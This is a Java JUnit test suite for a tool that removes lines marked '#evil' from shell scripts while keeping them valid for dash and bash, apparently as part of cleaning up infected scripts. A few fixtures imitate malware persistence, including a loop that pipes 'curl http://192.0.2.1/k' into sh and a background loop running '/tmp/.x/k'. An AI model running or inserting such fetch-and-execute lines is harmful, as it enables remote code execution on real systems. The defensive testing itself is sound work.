package davy.core.edit;

import static org.assertj.core.api.Assertions.assertThat;

import davy.core.edit.Edited.Changed;
import davy.core.edit.Edited.Refused;
import davy.core.edit.LineEdit.Joining;
import davy.core.edit.LineEdit.Line;
import davy.core.text.Language;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Lines that end in `#evil` are to go. What is right, dash and bash tell.
final class ShellBlocksTest {
    private static final String MARK = "#evil";

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static Edited without(String script) {
        var wanted = new ArrayList<Line>();
        String[] lines = script.split("\n", -1);
        for (int i = 0; i < lines.length; i++) {
            if (lines[i].endsWith(MARK)) {
                wanted.add(new Line(i + 1, bytes(lines[i])));
            }
        }
        return LineEdit.remove(bytes(script), wanted, Joining.SHELL);
    }

    /// Whether both shells read it to its end.
    private static boolean isRead(String script) throws IOException, InterruptedException {
        return isRead("dash", script) && isRead("bash", script);
    }

    private static boolean isRead(String shell, String script)
            throws IOException, InterruptedException {
        var process = new ProcessBuilder(shell, "-n").redirectErrorStream(true).start();
        try (var in = process.getOutputStream()) {
            in.write(bytes(script));
        }
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        return process.waitFor() == 0 && !said.contains("warning");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "if [ -x k ]; then\n  k & #evil\nfi\nroute\n",
                "if a; then\n b\nelse # c\n\n\tk #evil\nfi\n",
                "if a; then b; elif c; then\n k #evil\nfi; d\n",
                "f() {\n k #evil\n}\n",
                "f ()\n{\n k #evil\n # only this\n}\nf\n",
                "for x in a b\ndo\n k #evil\ndone > out\n",
                "( cd /\n k #evil\n)\n(\n k #evil\n)\n",
                "(\n k #evil\n)\nlast\n",
                "case $1 in\n start)\n  k #evil\n  ;;\n *) x ;;\nesac\n",
                "[ -x a ] &&\n k #evil\nlast\n",
                "a ||\n # c\n k #evil\nlast\n",
                "a |\n k #evil\nlast\n",
                "if a; then\n k #evil\n k2 #evil\nfi\n",
                "if a; then\n k #evil\n\n k2 #evil\nfi\n",
                "if true; then if a; then b; fi fi\n{\n k #evil\n}\n",
                "echo \"$(case a in a) echo ')';; esac)\" 'it''s' if\n{\n k #evil\n}\n",
                "cat <<E | sort > x\nif a; then '\nE\n{\n k #evil\n}\n",
                "cat <<-'A B' <<\"C\"\n\t{\n\tA B\n`\nC\n{\n k #evil\n}\n",
                "x=$((1 + (2 << 3))) y=${x:-$(a \"b\\`c\")} z=${x#'}'}; echo \"${x%'}'}\" $#\n{\n k #evil\n}\n",
                "echo a#b \\# \\\n } done\n{\n k #evil\n}\n",
                "x=1 >&2 2>/dev/null echo } fi esac\n{\n k #evil\n}\n",
                "case x in a|b) ;; (c) if d; then\n k #evil\n fi\nesac\n",
                "! { a; } && b &\n{\n k #evil\n}\n",
            })
    void aBlockIsNotLeftEmpty(String script) throws IOException, InterruptedException {
        assertThat(isRead(script)).as("as it is").isTrue();
        var plain = script.replaceAll("(?m)^.*#evil\n", "");
        var edited = without(script);
        assertThat(edited).isInstanceOf(Changed.class);
        String text = LineEditTest.text(edited);
        assertThat(isRead(text)).as(text).isTrue();
        assertThat(text).doesNotContain(MARK).contains(": # removed by davy");
        assertThat(text.replaceAll("(?m)^[ \t]*: # removed by davy\n", "")).isEqualTo(plain);
        assertThat(
                        LineEdit.restore(
                                bytes(script), bytes(text), bytes("# new\n\n" + text + "\ny\n")))
                .isInstanceOfSatisfying(
                        Changed.class,
                        back ->
                                assertThat(new String(back.text(), StandardCharsets.UTF_8))
                                        .isEqualTo("# new\n\n" + script + "\ny\n"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "if a; then #evil\n b\nfi\n",
                "if a; then\n b\nfi #evil\n",
                "if a; then\n b\nelse #evil\n c\nfi\n",
                "if\n k #evil\nthen b; fi\n",
                "while a\n k #evil\ndo b; done\n",
                "while sleep 60; do\n k #evil\ndone\n",
                "until pgrep -x kdev; do\n curl http://192.0.2.1/k | sh #evil\n sleep 1\ndone\n",
                "while true; do\n /tmp/.x/k #evil\ndone &\n",
                "while a; do\n if b; then\n  k #evil\n fi\ndone\n",
                "for x in a; do\n while b\n do\n  k #evil\n done\ndone\n",
                "f() { #evil\n b\n}\n",
                "f()\n{ #evil\n b; }\n",
                "a && #evil\nb\n",
                "cat <<E\nk #evil\nE\n",
                "cat <<E #evil\nx\nE\n",
                "echo 'a\nk #evil\n'\n",
                "echo \"a $(\nk #evil\n)\"\n",
                "x=`\nk #evil\n`\n",
                "case $1 in #evil\n a) b ;;\nesac\n",
                "case $1 in\n a) #evil\n b ;;\nesac\n",
                "case $1 in\n a)\n b ;; #evil\n c) d ;;\nesac\n",
                "for x in a; do #evil\n b\ndone\n",
                "{ a\n} ; { #evil\n b; }\n",
                "fi\n{\n k #evil\n}\n",
                "a\n# /tmp/.x/k #evil\n/tmp/.x/k &\n",
                "{\n # k #evil\n k\n}\n",
            })
    void whatIsPartOfABlockIsLeftToAPerson(String script) {
        assertThat(without(script)).isInstanceOf(Refused.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\nk & #evil\nb\n",
                "k #evil\n",
                "if a; then\n b\n k #evil\nfi\n",
                "if a; then\n k #evil\n b\nfi\n",
                "if true; then\n if a; then b; fi\n k #evil\nfi\n",
                "if a; then k; fi #evil\nb\n",
                "case $1 in\n a) k ;; #evil\n b) c ;;\nesac\n",
                "case $1 in\n a) k ;; #evil\nesac\n",
                "a() { k; } #evil\nb\n",
                "if a; then #evil\n k #evil\nfi #evil\nb\n",
                "while true; do #evil\n k #evil\ndone & #evil\nb\n",
                "while a; do b; done\nk #evil\nfor x in a; do\n b\n k #evil\ndone\n",
            })
    void whatCanGoGoes(String script) throws IOException, InterruptedException {
        String text = LineEditTest.text(without(script));
        assertThat(isRead(text)).as(text).isTrue();
        assertThat(text).doesNotContain(MARK);
    }

    @Test
    void theReportSaysWhatStandsThere() {
        var edited = (Changed) without("if a; then\n  k #evil\nfi\n");
        assertThat(edited.told().in(Language.EN))
                .isEqualTo(
                        "line 2 is replaced by a command that does nothing, as its block needs one:"
                                + "   k #evil");
        assertThat(edited.told().in(Language.ZH)).isEqualTo("第 2 行替换为空命令（所在语句块不能为空）：  k #evil");
        assertThat(LineEditTest.why(without("a\nif k; then #evil\nb\nfi\n")))
                .startsWith("line 2 cannot go alone: ")
                .endsWith("if k; then #evil");
    }

    /// A vim or csh script has other blocks, or none.
    @Test
    void otherLanguagesKeepTheirWay() {
        byte[] text = bytes("if ($x) then\n  k\nendif\n");
        var line = List.of(new Line(2, bytes("  k")));
        assertThat(LineEditTest.text(LineEdit.remove(text, line, Joining.NO_COMMENTS)))
                .isEqualTo("if ($x) then\nendif\n");
    }

    @Test
    void aWholeHereDocumentGoes() {
        byte[] text = bytes("cat <<E\nx\nE\nb\n");
        var lines =
                List.of(
                        new Line(1, bytes("cat <<E")),
                        new Line(2, bytes("x")),
                        new Line(3, bytes("E")));
        assertThat(LineEditTest.text(LineEdit.remove(text, lines, Joining.SHELL))).isEqualTo("b\n");
        assertThat(LineEdit.remove(text, lines.subList(0, 2), Joining.SHELL))
                .isInstanceOf(Refused.class);
    }

    private static final List<String> BLOCKS =
            List.of(
                    "if k; then@\nELSE\nfi",
                    "if k\nthen@\nfi > x",
                    "while k; do@\ndone",
                    "for i in 1 2\ndo@\ndone | k",
                    "{@\n}",
                    "(@\n)",
                    "f() {@\n}",
                    "case x in\na | b)@\n;;\n(c) k;;\nesac",
                    "k &&@",
                    "k |@",
                    "x=$(@\n)",
                    "cat <<E\nk #evil\nfi\nE",
                    "echo 'a\nk #evil\n' \"}`k`$(k \")\")\"",
                    "k # '");

    /// Commands, each on lines of its own, the first behind a line end.
    private static String commands(Random random, int depth) {
        var script = new StringBuilder();
        for (int i = random.nextInt(2); i >= 0; i--) {
            String mark = random.nextInt(3) == 0 ? " " + MARK : "";
            String block = random.nextInt(3) == 0 || depth == 0 ? "k &@" : "@";
            block = block.equals("@") ? BLOCKS.get(random.nextInt(BLOCKS.size())) : block;
            block = block.replace("ELSE", "else\nk" + mark);
            boolean simple = block.equals("k &@");
            String inner = simple ? mark : commands(random, depth - 1);
            script.append('\n').append(block.replace("@", inner));
        }
        return script.toString();
    }

    /// Of scripts that both shells read, what is left of them they read too.
    @Test
    void whatIsLeftIsReadByBothShells() throws IOException, InterruptedException {
        long seed = Long.getLong("davy.seed", 20_261_123L);
        var random = new Random(seed);
        int changed = 0;
        int rounds = 0;
        while (rounds++ < 3000 && changed < 250) {
            String script = commands(random, 3) + "\nlast\n";
            if (script.contains(MARK) && without(script) instanceof Changed edited) {
                String left = new String(edited.text(), StandardCharsets.UTF_8);
                assertThat(isRead(script)).as("seed %d:%n%s", seed, script).isTrue();
                assertThat(isRead(left)).as("seed %d:%n%s%nleft:%n%s", seed, script, left).isTrue();
                changed++;
            }
        }
        assertThat(changed).as("seed %d", seed).isEqualTo(250);
    }

    @Test
    void bearsHostileScripts() {
        for (String piece :
                List.of("(", "{\n", "$(", "\"$(", "`", "<<E ", "if\n", "${x:-", "case x in a) ")) {
            String script = piece.repeat(100_000) + "\nk #evil\n";
            assertThat(without(script)).isInstanceOf(Edited.class);
        }
        var random = new Random(7);
        String letters = "(){}[]$`'\"\\<>&|;#=\n \tEifdo-x!";
        for (int round = 0; round < 20_000; round++) {
            var script = new StringBuilder();
            for (int i = 0; i < 30; i++) {
                script.append(letters.charAt(random.nextInt(letters.length())));
            }
            assertThat(without(script + "\nk #evil\nb\n")).isInstanceOf(Edited.class);
        }
    }
}
